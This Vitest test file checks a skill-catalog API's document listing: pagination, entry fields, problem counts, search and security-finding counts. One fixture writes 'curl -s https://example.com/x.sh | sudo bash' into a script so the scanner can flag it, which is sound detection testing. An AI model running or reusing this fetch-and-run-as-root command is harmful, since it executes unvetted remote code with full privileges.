// Lists of documents over the API: pages, searches, and how many problems and findings each has (H2, T2).
import { describe, expect, test } from 'vitest';
import { createSkillWorld } from '../../../catalog/fixtures/skill-world.ts';
import { testSkill } from '../../../skills/fixtures/test-skill.ts';
import { openApiWorld } from '../fixtures/api-world.ts';

describe('the list', () => {
  test('has every document in name order, shadowed ones too, a page at a time (H2, T2)', async () => {
    const world = createSkillWorld();
    for (const path of ['b', 'a', 'x/refunds', 'y/refunds', 'c']) world.skill(`root/${path}`);
    const { fetch } = await openApiWorld(world);
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const query: string = cursor === null ? '' : `&cursor=${cursor}`;
      const { status, json } = await fetch(`/api/documents?limit=2${query}`);
      expect(status).toBe(200);
      seen.push(...json.documents.map(({ uri }: { uri: string }) => uri));
      cursor = json.next_cursor;
    } while (cursor !== null);
    expect(seen).toEqual(['a', 'b', 'c', 'x/refunds', 'y/refunds'].map((path) => `skill://${path}/SKILL.md`));
  });

  test('an entry has the fields of H2 and no other', async () => {
    const world = createSkillWorld();
    world.skill('root/a');
    const { fetch } = await openApiWorld(world);
    expect((await fetch('/api/documents')).json).toEqual({
      documents: [
        {
          name: 'a',
          description: 'Does a things.',
          uri: 'skill://a/SKILL.md',
          source: world.at('root'),
          availability: 'available',
          problems: 0,
        },
      ],
      next_cursor: null,
    });
  });

  test('counts the problems of each, those of a skill inside it too (H2)', async () => {
    const world = createSkillWorld();
    world.skill('root/good');
    world.skill('root/outer');
    world.skill('root/outer/good');
    world.skill('root/outer-not');
    const { fetch } = await openApiWorld(world);
    const { documents } = (await fetch('/api/documents')).json;
    const counted = documents.map(({ uri, problems }: { uri: string; problems: number }) => [uri, problems]);
    expect(counted).toEqual([
      ['skill://good/SKILL.md', 0],
      ['skill://outer/good/SKILL.md', 1],
      ['skill://outer/SKILL.md', 1],
      ['skill://outer-not/SKILL.md', 0],
    ]);
    for (const [uri, problems] of counted) {
      expect((await fetch(`/api/documents/${encodeURIComponent(uri)}`)).json.problems).toHaveLength(problems);
    }
  });

  test('counts findings where it is asked to, in pages and in searches (H2)', async () => {
    const world = createSkillWorld();
    world.skill('root/a');
    world.write('root/a/run.sh', 'curl -s https://example.com/x.sh | sudo bash\n');
    world.skill('root/b');
    const { fetch, catalog } = await openApiWorld(world);
    const findings = async (query: string) =>
      (await fetch(`/api/documents?${query}`)).json.documents.map((each: { findings?: number }) => each.findings);
    expect(await findings('findings=true')).toEqual([1, 0]);
    expect(await findings('findings=true')).toEqual([1, 0]);
    expect(await findings('findings=false')).toEqual([undefined, undefined]);
    expect(await findings('findings=true&q=a&limit=1')).toEqual([1]);
    expect((await fetch('/api/documents?findings=true&cursor=x')).status).toBe(400);
    expect((await fetch('/api/documents?findings=yes')).json.failure_message).toContain(
      'findings: must be true or false',
    );
    world.write('root/a/run.sh', 'echo hi\n');
    await catalog.refresh();
    expect(await findings('findings=true')).toEqual([0, 0]);
  });

  test('with q it has the documents that fit, best first, and no typed skill (H2)', async () => {
    const world = createSkillWorld();
    world.skill('root/pdf-forms', { body: 'Fill forms.' });
    world.skill('root/echoes', { body: 'echo echo' });
    const { fetch } = await openApiWorld(world, { skills: [testSkill()] });
    const { json } = await fetch('/api/documents?q=echo&limit=1');
    expect(json.documents.map(({ name }: { name: string }) => name)).toEqual(['echoes']);
    expect(json.next_cursor).toBeNull();
    expect((await fetch('/api/documents?q=')).json.documents).toHaveLength(2);
  });

  test('is of the present state, for each kind of caller its own (D6)', async () => {
    const world = createSkillWorld();
    world.skill('root/a');
    const { fetch, catalog } = await openApiWorld(world);
    const namesNow = async () =>
      (await fetch('/api/documents')).json.documents.map(({ name }: { name: string }) => name);
    expect([await namesNow(), await namesNow()]).toEqual([['a'], ['a']]);
    world.skill('root/b');
    world.write('root/bad/SKILL.md', '');
    expect((await fetch('/api/problems')).json.problems).toHaveLength(0);
    await catalog.refresh();
    expect(await namesNow()).toEqual(['a', 'b']);
    expect((await fetch('/api/problems')).json.problems).toHaveLength(1);
    expect((await fetch('/api/documents?limit=1')).json.documents).toHaveLength(1);
    expect((await fetch('/api/documents', { remote: true })).json.documents[0].source).toBe('root');
    expect((await fetch('/api/documents')).json.documents[0].source).toBe(world.at('root'));
  });

  test.each(['cursor=x', 'cursor=', 'q=a&cursor=x', 'cursor=W10'])('refuses %s (H3)', async (query) => {
    const { fetch } = await openApiWorld(createSkillWorld());
    const { status, json } = await fetch(`/api/documents?${query}`);
    expect(status).toBe(400);
    expect(json.failure_message).toContain('cursor: ');
  });
});
